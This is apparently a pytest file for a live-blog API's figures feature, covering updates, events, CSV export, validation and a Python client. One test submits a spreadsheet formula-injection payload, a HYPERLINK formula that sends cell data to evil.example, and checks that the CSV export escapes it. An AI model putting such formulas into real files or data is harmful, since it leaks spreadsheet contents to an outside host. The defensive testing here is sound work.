"""Figures over the API: set, told to those who follow, listed, read as data and as a table, taken away."""

import csv
from io import StringIO

import pytest

from liveblog_client import Client
from tests.web.live_app import LiveApp

pytestmark = pytest.mark.asyncio(loop_scope="module")


async def test_a_figure_is_told_on_every_door(shared_app: LiveApp):
    """The answer, the event, the list, the history, the table and the page say the same."""
    blog = await shared_app.blog()
    writes, there = shared_app.bearer("write"), f"/api/v1{blog.path}/figures/Dead"
    text = "[[Dead: 35 (including 4 children) | Red Crescent]]"
    posted = await shared_app.http.post(f"/api/v1{blog.path}/entries", json={"body": text}, headers=writes)
    assert [each["value"] for each in posted.json()["entry"]["figures"]] == ["35"]
    said = {"value": "70", "source": "The governor", "link": "https://gov.example/"}
    answer = await shared_app.http.put(there, json=said, headers=writes)
    (figure,) = answer.json()["figures"]
    assert figure | said == figure
    assert (figure["was"]["value"], figure["was"]["parts"]) == (
        "35",
        [{"label": "children", "value": "4", "shown": "4"}],
    )
    follow = await shared_app.http.get(f"/api/v1{blog.path}/events?epoch={blog.epoch}&after={answer.json()['seq'] - 1}")
    event = follow.json()["events"][-1]
    assert (event["kind"], event["blog"]["figures"]) == ("figure.changed", [figure])
    assert "was <bdi>35</bdi>" in event["blog"]["figures_html"]
    assert (await shared_app.http.get(f"/api/v1{blog.path}/figures")).json()["figures"] == [figure]
    history = (await shared_app.http.get(f"/api/v1{blog.path}/figures/dead")).json()
    assert (history["name"], [each["value"] for each in history["readings"]]) == ("Dead", ["35", "70"])
    table = await shared_app.http.get(f"{blog.path}/figures/Dead.csv")
    head, first, second = table.text.splitlines()
    assert head == "as_of,value,unit,shown,source,link,entry,parts"
    assert first.endswith("35,,35,Red Crescent,,1,children=4")
    assert second.endswith("70,,70,The governor,https://gov.example/,,")
    page = (await shared_app.http.get(blog.path)).text
    assert event["blog"]["figures_html"] in page
    text = (await shared_app.http.get(f"{blog.path}.txt")).text
    assert "\nDead: 70 (" in text
    assert "\nDead: 35 (including 4 children) (Red Crescent)\n" in text
    gone = await shared_app.http.delete(f"{there}/readings/{figure['id']}", headers=writes)
    assert [each["value"] for each in gone.json()["figures"]] == ["35"]
    refused = await shared_app.http.delete(there, headers=writes)
    assert (refused.status_code, refused.json()["code"]) == (409, "conflict")


async def test_no_cell_of_a_table_is_a_formula(shared_app: LiveApp):
    """What a sheet would run, in any text of a figure, has an apostrophe before it; numbers stay numbers."""
    blog, writes = await shared_app.blog(), shared_app.bearer("write")
    there = f"/api/v1{blog.path}/figures/Level"
    formula = '=HYPERLINK("https://evil.example/?"&A1)'
    parts = [{"label": "@a", "value": "-3"}, {"label": "b", "value": "1"}]
    said = {"value": "-3.5", "unit": "+m", "source": formula, "parts": parts}
    assert (await shared_app.http.put(there, json=said, headers=writes)).status_code == 200
    table = await shared_app.http.get(f"{blog.path}/figures/Level.csv")
    _, (_, *cells) = csv.reader(StringIO(table.text))
    assert cells == ["-3.5", "'+m", "-3.5", f"'{formula}", "", "", "'@a=-3;b=1"]


@pytest.mark.parametrize(
    ("name", "said", "field"),
    [
        ("Dead", {"value": "many"}, "value"),
        ("Dead", {"value": "1,234"}, "value"),
        ("Dead", {"value": "1", "parts": [{"label": "", "value": "1"}]}, "parts.0.label"),
        ("Dead", {"value": "1234", "shown": "1,235"}, "shown"),
        ("Dead", {"value": "1234", "shown": "1 hundred"}, "shown"),
        ("Dead", {"value": "1234", "shown": "1,234\x0b"}, "shown"),
        ("Dead", {"value": "5", "parts": [{"label": "a", "value": "4", "shown": ""}]}, "parts.0.shown"),
        ("123", {"value": "1"}, "figure"),
        ("a%7Cb", {"value": "1"}, "figure"),
    ],
)
async def test_what_is_wrong_with_a_figure_is_named(shared_app: LiveApp, name, said, field):
    """The field that is wrong is told, and so is a name that no text could have."""
    blog = await shared_app.blog()
    there = f"/api/v1{blog.path}/figures/{name}"
    answer = await shared_app.http.put(there, json=said, headers=shared_app.bearer("write"))
    assert (answer.status_code, [each["field"] for each in answer.json()["errors"]]) == (422, [field])


@pytest.mark.parametrize(
    ("value", "shown"),
    [("1240", "1,240"), ("1240", "1\u202f240"), ("-3.5", "\u22123,5"), ("70", "\u0667\u0660"), ("1.234", "1.234")],
)
async def test_a_number_is_shown_as_it_was_written(shared_app: LiveApp, value, shown):
    """What a program sets reads as an editor would have written it, in a line; without it, and with null, as digits."""
    blog = await shared_app.blog()
    there, writes = f"/api/v1{blog.path}/figures/Power", shared_app.bearer("write")
    part = {"label": "islands", "value": value, "shown": shown}
    answer = await shared_app.http.put(there, json={"value": value, "shown": shown, "parts": [part]}, headers=writes)
    (figure,) = answer.json()["figures"]
    assert (figure["shown"], figure["parts"]) == (shown, [part])
    said = {"value": "8", "shown": " 8\n"}
    (figure,) = (await shared_app.http.put(there, json=said, headers=writes)).json()["figures"]
    assert figure["shown"] == "8"
    (figure,) = (await shared_app.http.put(there, json={"value": "7", "shown": None}, headers=writes)).json()["figures"]
    assert figure["shown"] == "7"


async def test_parts_that_do_not_add_up_are_a_warning(shared_app: LiveApp):
    """The entry is posted, and the answer says which figure may be a mistake."""
    blog = await shared_app.blog()
    address, writes = f"/api/v1{blog.path}/entries", shared_app.bearer("write")
    answer = await shared_app.http.post(address, json={"body": "[[Dead: 70 (40 a + 20 b)]]"}, headers=writes)
    said = "tells “Dead”, whose parts do not add up to it"
    assert (answer.status_code, answer.json()["warnings"]) == (201, [{"field": "body", "message": said}])
    mended = await shared_app.http.patch(f"{address}/1", json={"body": "[[Dead: 60 (40 a + 20 b)]]"}, headers=writes)
    assert "warnings" not in mended.json()


async def test_a_figure_that_nobody_told_has_no_readings(shared_app: LiveApp):
    """Its history is empty, whatever it is called, and there is nothing to take away."""
    blog = await shared_app.blog()
    for name in ("Nobody", "%00", "123"):
        assert (await shared_app.http.get(f"/api/v1{blog.path}/figures/{name}")).json()["readings"] == []
        there = f"/api/v1{blog.path}/figures/{name}"
        assert (await shared_app.http.delete(there, headers=shared_app.bearer("write"))).status_code == 404


async def test_the_python_client_sets_reads_and_drops_figures(shared_app: LiveApp):
    """Its methods say and show the same as the API, whatever letters the name has."""
    blog = await shared_app.blog()
    name = "القتلى في كوباني"
    async with Client(shared_app.url, shared_app.tokens["write"]) as client:
        await client.set_reading(blog.slug, name, value="35", as_of="2024-03-04T11:01:00Z")
        changed = await client.set_reading(blog.slug, name, value="70", shown="\u0667\u0660")
        (figure,) = await client.figures(blog.slug)
        assert changed["figures"] == [figure]
        assert figure["shown"] == "\u0667\u0660"
        assert [each["value"] for each in await client.readings(blog.slug, name)] == ["35", "70"]
        await client.drop_reading(blog.slug, name, figure["id"])
        assert (await client.drop_readings(blog.slug, name))["figures"] == []
